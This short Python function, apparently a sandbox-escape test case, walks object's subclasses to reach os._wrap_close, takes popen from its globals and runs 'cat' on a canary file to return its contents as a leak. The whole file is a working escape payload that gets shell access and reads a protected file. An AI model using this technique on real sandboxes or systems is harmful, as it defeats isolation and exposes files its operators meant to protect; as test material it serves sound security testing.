# route: the subclasses of object, to a class whose module has os
def execute(testData):
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            popen = cls.__init__.__globals__["popen"]
            return {"leak": popen("cat " + testData["canary_path"]).read()}
    return {"leak": None}
